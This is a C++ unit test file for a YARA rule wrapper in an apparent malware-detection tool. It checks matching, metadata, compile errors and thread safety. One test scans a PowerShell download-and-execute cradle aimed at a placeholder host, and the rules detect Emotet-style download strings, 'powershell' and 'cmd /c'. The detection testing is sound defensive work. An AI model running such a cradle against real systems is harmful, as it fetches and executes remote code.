// Tests the libyara wrapper: compilation errors, matches with metadata and tags, concurrent scans.
#include <gtest/gtest.h>

#include <string>
#include <thread>
#include <vector>

#include "analyzers/yara/yara_rules.hpp"

namespace emoguard::analyzers::yara {
namespace {

using namespace std::string_view_literals;

TEST(YaraRules, MatchCarriesMetaAndTags) {
  auto rules = Rules::compile({{"a.yar", R"(rule Dl : emotet download { meta: description = "download cradle" severity = "high" count = 3
                                                strings: $a = "DownloadString" nocase condition: $a })"}});
  ASSERT_TRUE(rules) << rules.error().message;
  EXPECT_EQ((*rules)->rule_count(), 1u);
  auto m = (*rules)->scan(ByteView("IEX (New-Object Net.WebClient).downloadstring('http://example.invalid/')"sv));
  ASSERT_TRUE(m);
  ASSERT_EQ(m->size(), 1u);
  EXPECT_EQ((*m)[0].rule, "Dl");
  EXPECT_EQ((*m)[0].tags, (std::vector<std::string>{"emotet", "download"}));
  ASSERT_EQ((*m)[0].meta.size(), 3u);
  EXPECT_EQ((*m)[0].meta[0], (std::pair<std::string, std::string>{"description", "download cradle"}));
  EXPECT_EQ((*m)[0].meta[2], (std::pair<std::string, std::string>{"count", "3"}));
}

TEST(YaraRules, NoMatchIsEmptyNotAnError) {
  auto rules = Rules::compile({{"a.yar", "rule X { strings: $a = \"powershell\" condition: $a }"}});
  ASSERT_TRUE(rules);
  auto m = (*rules)->scan(ByteView("Sub Hello()\nEnd Sub\n"sv));
  ASSERT_TRUE(m);
  EXPECT_TRUE(m->empty());
  auto e = (*rules)->scan(ByteView());
  ASSERT_TRUE(e);
  EXPECT_TRUE(e->empty());
}

TEST(YaraRules, CompileErrorNamesTheSourceAndLine) {
  auto rules = Rules::compile({{"good.yar", "rule A { condition: true }"}, {"bad.yar", "rule B {\n condition: $nope }"}});
  ASSERT_FALSE(rules);
  EXPECT_EQ(rules.error().code, Errc::malformed);
  EXPECT_NE(rules.error().message.find("bad.yar:2"), std::string::npos) << rules.error().message;
}

TEST(YaraRules, ConcurrentScansOfOneRuleSet) {
  auto rules = Rules::compile({{"a.yar", "rule X { strings: $a = \"cmd /c\" condition: $a }"}});
  ASSERT_TRUE(rules);
  std::vector<std::thread> ts;
  std::vector<int> hits(4, 0);
  for (int t = 0; t < 4; ++t) {
    ts.emplace_back([&, t] {
      for (int i = 0; i < 200; ++i) {
        auto m = (*rules)->scan(ByteView(i % 2 ? "x cmd /c y"sv : "nothing"sv));
        if (m && !m->empty()) ++hits[static_cast<std::size_t>(t)];
      }
    });
  }
  for (auto& t : ts) t.join();
  for (const int h : hits) EXPECT_EQ(h, 100);
}

TEST(YaraRules, TwoRuleSetsLiveTogether) {
  // libyara is initialised once per process and released with the last rule set.
  auto a = Rules::compile({{"a.yar", "rule A { strings: $a = \"aaa\" condition: $a }"}});
  ASSERT_TRUE(a);
  {
    auto b = Rules::compile({{"b.yar", "rule B { strings: $b = \"bbb\" condition: $b }"}});
    ASSERT_TRUE(b);
    EXPECT_EQ((*b)->scan(ByteView("bbb"sv))->size(), 1u);
  }
  EXPECT_EQ((*a)->scan(ByteView("aaa"sv))->size(), 1u);
}

}  // namespace
}  // namespace emoguard::analyzers::yara
